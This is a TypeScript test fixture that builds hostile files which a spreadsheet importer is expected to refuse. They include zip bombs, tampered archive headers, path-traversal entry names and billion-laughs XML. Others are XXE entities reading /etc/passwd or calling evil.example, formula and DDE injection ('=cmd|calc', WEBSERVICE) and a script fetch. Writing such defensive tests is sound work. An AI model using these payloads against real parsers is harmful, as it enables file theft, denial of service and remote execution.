import { Buffer } from 'node:buffer';
import { strToU8 } from 'fflate';
import {
  findEndRecord,
  findRecord,
  makeOleContainer,
  makeParts,
  makeRawWorkbook,
  pack,
  tamper,
} from '../../helpers/archives.ts';

/** A file that somebody could hand to the program, and why it is dangerous. */
export interface HostileFile {
  name: string;
  make: () => Buffer;
}

const SHEET = 'xl/worksheets/sheet1.xml';
const XMLNS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

const row = (cells: string, number = 1): string => `<row r="${number}">${cells}</row>`;
const cell = (address: string, text: string): string =>
  `<c r="${address}" t="inlineStr"><is><t>${text}</t></is></c>`;

/** A workbook whose sheet is the given XML, whole. */
const rawSheet = (xml: string | Uint8Array, more: Record<string, Uint8Array> = {}): Buffer =>
  pack({ ...makeParts(''), [SHEET]: typeof xml === 'string' ? strToU8(xml) : xml, ...more });

const doctype = (declarations: string, use: string): string =>
  `<?xml version="1.0"?><!DOCTYPE x [${declarations}]><worksheet xmlns="${XMLNS}"><sheetData>${row(cell('A1', use))}</sheetData></worksheet>`;

const LAUGHS = [
  '<!ENTITY l0 "ha">',
  ...Array.from({ length: 12 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`),
].join('');

const plain = makeRawWorkbook(row(cell('A1', 'x')));
const changed = (edit: (copy: Buffer, record: number, end: number) => void): Buffer =>
  tamper(plain, (copy) => edit(copy, findRecord(copy, SHEET), findEndRecord(copy)));

const named = (name: string): Buffer => pack({ ...makeParts(''), [name]: strToU8('x') });

const of = (name: string, make: () => Buffer): HostileFile => ({ name, make });

const notWorkbooks: HostileFile[] = [
  of('a text renamed', () => Buffer.from('A1;M;балл\n'.repeat(1000))),
  of('a page with a script', () =>
    Buffer.from('<!doctype html><script>fetch("http://evil.example")</script>'),
  ),
  of('a picture that is a script (SVG)', () =>
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
  ),
  of('a program', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(4096)])),
  of('a PDF', () => Buffer.from('%PDF-1.7\n%âãÏÓ\n')),
  of('a gzip stream', () => Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), Buffer.alloc(200)])),
  of('a RAR archive', () => Buffer.from('Rar!\u001a\u0007\u0000', 'latin1')),
  of('one byte', () => Buffer.from([0])),
  of('ten megabytes of zeros', () => Buffer.alloc(10_000_000)),
  of('an old workbook', () => makeOleContainer(false)),
  of('an encrypted workbook', () => makeOleContainer(true)),
  of('a workbook behind a program', () => Buffer.concat([Buffer.from('MZ'), plain])),
];

const archives: HostileFile[] = [
  of('an archive of nothing', () => pack({})),
  of('an archive without a workbook', () => pack({ 'readme.txt': strToU8('x') })),
  of('a document', () =>
    pack({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8('<w/>') }),
  ),
  of('a cut archive', () => plain.subarray(0, plain.length - 40)),
  of('an archive of its end only', () => plain.subarray(findEndRecord(plain))),
  of('a bomb of one entry', () => pack({ ...makeParts(''), 'xl/bomb.xml': new Uint8Array(40_000_000) })),
  of('a bomb as the sheet itself', () => rawSheet(new Uint8Array(40_000_000).fill(0x20))),
  of('a bomb of many entries', () =>
    pack({
      ...makeParts(''),
      ...Object.fromEntries(
        Array.from({ length: 30 }, (_, at) => [`xl/${at}.xml`, new Uint8Array(5_000_000)]),
      ),
    }),
  ),
  of('an archive inside an archive', () =>
    pack({ ...makeParts(''), 'xl/inner.zip': new Uint8Array(pack(makeParts(''))) }),
  ),
  of('five thousand entries', () =>
    pack(Object.fromEntries(Array.from({ length: 5000 }, (_, at) => [`${at}.xml`, strToU8('x')]))),
  ),
  of('a size that lies (small)', () => changed((copy, record) => copy.writeUInt32LE(3, record + 24))),
  of('a size that lies (huge)', () => changed((copy, record) => copy.writeUInt32LE(0xfffffff0, record + 24))),
  of('a wrong checksum', () => changed((copy, record) => copy.writeUInt32LE(7, record + 16))),
  of('an encrypted entry', () => changed((copy, record) => copy.writeUInt16LE(1, record + 8))),
  of('an unknown way of packing', () => changed((copy, record) => copy.writeUInt16LE(99, record + 10))),
  of('an entry beyond the end', () => changed((copy, record) => copy.writeUInt32LE(0x7fffffff, record + 42))),
  of('entries that overlap', () => changed((copy, record) => copy.writeUInt32LE(0, record + 42))),
  of('a directory that points to itself', () =>
    changed((copy, _record, end) => copy.writeUInt32LE(end, end + 16)),
  ),
  of('counts of ZIP64', () => changed((copy, _record, end) => copy.writeUInt16LE(0xffff, end + 10))),
  of('a path that climbs', () => named('../../../../etc/cron.d/evil')),
  of('an absolute path', () => named('/etc/passwd')),
  of('a path of another system', () => named('C:\\Windows\\evil.dll')),
  of('a name with a zero byte', () => named('xl/a\u0000.xml')),
  of('two names that differ by case', () => named('XL/workbook.xml')),
  of('names of a prototype', () =>
    pack({ ...makeParts(''), __proto__x: strToU8('x'), constructor: strToU8('x'), toString: strToU8('x') }),
  ),
];

const sheets: HostileFile[] = [
  of('a billion laughs', () => rawSheet(doctype(LAUGHS, '&l12;'))),
  of('an entity from a file', () => rawSheet(doctype('<!ENTITY f SYSTEM "file:///etc/passwd">', '&f;'))),
  of('an entity from the network', () =>
    rawSheet(doctype('<!ENTITY f SYSTEM "http://evil.example/x">', '&f;')),
  ),
  of('a document type from the network', () =>
    rawSheet(`<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><worksheet xmlns="${XMLNS}"/>`),
  ),
  of('elements nested a hundred thousand deep', () => rawSheet('<a>'.repeat(100_000))),
  of('an attribute of five megabytes', () => rawSheet(`<worksheet x="${'y'.repeat(5_000_000)}"/>`)),
  of('ten thousand attributes', () =>
    rawSheet(`<worksheet ${Array.from({ length: 10_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`),
  ),
  of('XML that does not end', () => rawSheet(`<worksheet xmlns="${XMLNS}"><sheetData><row r="1"><c`)),
  of('XML of bytes that are no text', () =>
    rawSheet(Uint8Array.from([0x3c, 0x77, 0xff, 0xfe, 0xc0, 0x80, 0x3e])),
  ),
  of('XML in another encoding', () =>
    rawSheet(new Uint8Array(Buffer.from(`\ufeff<worksheet xmlns="${XMLNS}"/>`, 'utf16le'))),
  ),
  of('a cell of ten million letters', () => makeRawWorkbook(row(cell('A1', 'я'.repeat(5_000_000))))),
  of('a cell beyond the last column', () => makeRawWorkbook(row(cell('ZZZZZZ1', 'x')))),
  of('a cell beyond the last row', () => makeRawWorkbook(row(cell('A99999999999', 'x'), 99_999_999_999))),
  of('a cell without a place', () => makeRawWorkbook(row(cell('', 'x')))),
  of('rows that go backwards', () => makeRawWorkbook(row(cell('A9', 'x'), 9) + row(cell('A1', 'y'), 1))),
  of('half a million rows', () =>
    makeRawWorkbook(
      Array.from(
        { length: 500_000 },
        (_, at) => `<row r="${at + 1}"><c r="A${at + 1}"><v>1</v></c></row>`,
      ).join(''),
    ),
  ),
  of('twenty thousand cells in a row', () => makeRawWorkbook(row('<c t="n"><v>1</v></c>'.repeat(20_000)))),
  of('a shared text that is not there', () => makeRawWorkbook(row('<c r="A1" t="s"><v>4000000000</v></c>'))),
  of('a negative shared text', () => makeRawWorkbook(row('<c r="A1" t="s"><v>-1</v></c>'))),
  of('numbers that are none', () =>
    makeRawWorkbook(row('<c r="A1"><v>NaN</v></c><c r="B1"><v>1e999</v></c><c r="C1"><v>0x1F</v></c>')),
  ),
  of('a date of the year 9999999', () => makeRawWorkbook(row('<c r="A1" t="d"><v>9999999-99-99</v></c>'))),
  of('formulas that call out', () =>
    makeRawWorkbook(
      row('<c r="A1" t="str"><f>WEBSERVICE("http://evil.example")</f><v>=cmd|calc</v></c>') +
        row(cell('A2', '=HYPERLINK(&quot;http://evil.example&quot;)'), 2),
    ),
  ),
  of('a sheet that names another file', () =>
    rawSheet('<worksheet/>', {
      'xl/_rels/workbook.xml.rels': strToU8(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" TargetMode="External" Target="file:///etc/passwd"/></Relationships>',
      ),
    }),
  ),
  of('a sheet that is not there', () => {
    const { [SHEET]: _, ...parts } = makeParts('');
    return pack(parts);
  }),
  of('ten thousand sheets', () =>
    pack({
      ...makeParts(''),
      'xl/workbook.xml': strToU8(
        `<workbook xmlns="${XMLNS}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${Array.from({ length: 10_000 }, (_, at) => `<sheet name="S${at}" sheetId="${at + 1}" r:id="rId1"/>`).join('')}</sheets></workbook>`,
      ),
    }),
  ),
  of('words of a prototype in the cells', () =>
    makeRawWorkbook(
      row(
        ['__proto__', 'constructor', 'prototype', 'hasOwnProperty']
          .map((word, at) => cell(`${'ABCD'[at] ?? 'A'}1`, word))
          .join(''),
      ),
    ),
  ),
];

/** Files that are refused, each for a reason of its own. */
export const hostileFiles: readonly HostileFile[] = [...notWorkbooks, ...archives, ...sheets];
